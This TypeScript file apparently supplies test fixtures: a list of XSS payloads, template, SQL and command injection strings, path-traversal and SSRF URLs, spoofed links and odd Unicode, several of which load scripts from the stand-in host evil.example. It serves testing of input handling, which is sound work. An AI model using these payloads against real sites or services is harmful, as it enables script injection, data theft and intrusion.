/** Text that wants to be more than text: all of it our own writing, of every kind we know. */

const CALL = 'alert(document.domain)'

const TAGS = [
  `<script>${CALL}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script type=module>import('//evil.example/x.mjs')</script>`,
  `</textarea><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `--><script>${CALL}</script><!--`,
  `]]><script>${CALL}</script>`,
  `<!--<img src="--><img src=x onerror=${CALL}//">`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${CALL}&lt;/script&gt;"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="data:text/html,<script>${CALL}</script>">`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel=preload as=script href=//evil.example/x.js>`,
  `<style>*{display:none}</style>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<form action=//evil.example/><button>Log in</button></form>`,
  `<input autofocus onfocus=${CALL}>`,
  `<button formaction="javascript:${CALL}">press</button>`,
  `<math><mi xlink:href="javascript:${CALL}">x</mi></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<svg><foreignObject><iframe src="javascript:${CALL}"></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><script>${CALL}</script></template>`,
  `<portal src="//evil.example/"></portal>`,
  `<dialog open>Your session ended. Password?</dialog>`,
  `<details open ontoggle=${CALL}>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<a href="javascript:${CALL}">here</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">here</a>`,
  `<a href="vbscript:msgbox(1)">here</a>`,
  `<a ping="//evil.example/" href="https://acme.example/">here</a>`,
  `<xmp><img src=x onerror=${CALL}></xmp>`,
  `<plaintext>`,
  `<table background="javascript:${CALL}">`,
  `<div style="position:fixed;inset:0;background:red;z-index:9999">`,
  `<div style="background:url(javascript:${CALL})">`,
  `<isindex action="javascript:${CALL}">`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}>`,
  `<img src="x" srcset="//evil.example/pixel 1x">`,
  `<img src=//evil.example/pixel.gif>`,
]

const HANDLERS = [
  'onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onblur', 'onanimationstart', 'ontransitionend',
  'onpointerenter', 'onwheel', 'onscroll', 'onpageshow', 'onhashchange', 'onmessage', 'oncopy', 'onpaste',
  'onbeforeinput', 'onauxclick', 'onsecuritypolicyviolation', 'onslotchange',
].flatMap((handler) => [`<img src=x ${handler}=${CALL}>`, `<svg ${handler}=${CALL}>`, `"${handler}="${CALL}" x="`])

const QUOTES = [
  `"><img src=x onerror=${CALL}>`, `'><img src=x onerror=${CALL}>`, '`><img src=x>', `" onmouseover="${CALL}`,
  `' autofocus onfocus='${CALL}`, `\\"><script>${CALL}</script>`, '\\u003cscript\\u003e', '&lt;script&gt;x&lt;/script&gt;',
  '&#60;script&#62;x&#60;/script&#62;', '&amp;lt;b&amp;gt;', '%3Cscript%3Ex%3C/script%3E', '＜script＞x＜/script＞',
  '<\u0000script>x</script>', '<scr\u0000ipt>', '<img\u000bsrc=x>', '<img\u00a0src=x>', '<\u2028script>',
]

const TEMPLATES = [
  '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '#{7*7}', '<%= 7*7 %>', '{% debug %}', '{@html "<b>x</b>"}',
  '{#if true}x{/if}', '[[${7*7}]]', '*{7*7}', '@(7*7)', '$(touch x)', '`touch x`', "'; DROP TABLE tickets; --", "' OR '1'='1",
  '../../../../etc/passwd', '..\\..\\windows', 'file:///etc/passwd', '=cmd|calc!A0', '+1+1', '@SUM(1)', '-2+3',
  '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'null', 'undefined', 'NaN', 'true', '[object Object]', '{"a":1}',
]

const LINKS = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)', 'javascript&colon;alert(1)',
  'data:text/html,<script>alert(1)</script>', 'blob:https://acme.example/x', 'view-source:https://acme.example',
  'https://acme.example@evil.example/', 'https://acme.example.evil.example/login', 'https://xn--acm-epa.example/', 'https://аcme.example/',
  'http://127.0.0.1:9464/metrics', 'http://[::1]/', 'http://169.254.169.254/latest/meta-data/', '//evil.example/', 'https://evil.example/\u202egpj.exe',
  'mailto:a@b.example?body=x', 'tel:+1900', 'intent://x#Intent;scheme=http;end',
]

const UNICODE = [
  '\u202eelgnis eht daer\u202c', '\u2066left\u2069 \u2067right\u2069', 'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308'.repeat(12),
  'H\u0335\u031b\u0352\u0310e\u0336\u0300 comes', '\u200b\u200c\u200d\ufeff', '👩\u200d👩\u200d👧\u200d👦'.repeat(20), '🏴\u{e0067}\u{e0062}\u{e007f}', '\ufffd\ufffe',
  '\u0007\u0008\u001b[31mred\u001b[0m', 'x'.repeat(4000), '界'.repeat(2000), '\n'.repeat(200) + 'end', '\t'.repeat(50) + 'x', 'ﷺ'.repeat(60), '𒐫'.repeat(40),
  'مرحبا Acme أين حقيبتي', 'שלום Acme', '\u{1d54a}\u{1d564}', 'ＡＣＭＥ', 'İstanbul ıI', 'ß ẞ', '­soft­hyphen­', '\u2028\u2029', '\u180e', '\u115f\u1160\u3164', '꧅'.repeat(200), '|'.repeat(500),
]

/** A couple of hundred. */
export const PAYLOADS: readonly string[] = [...TAGS, ...HANDLERS, ...QUOTES, ...TEMPLATES, ...LINKS, ...UNICODE]
